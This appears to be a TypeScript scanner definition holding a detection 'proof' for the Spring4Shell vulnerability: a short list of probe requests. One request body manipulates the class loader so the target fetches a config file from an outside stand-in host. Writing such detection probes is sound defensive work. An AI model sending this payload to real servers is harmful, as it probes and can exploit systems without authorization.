import { type Proof, get, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'spring4shell',
    [
      post('/', 'class.module.classLoader.resources.context.configFile=http://198.51.100.7/x'),
      get('/?class.module.classLoader.x=1'),
    ],
    post('/', 'class=module'),
  ),
]
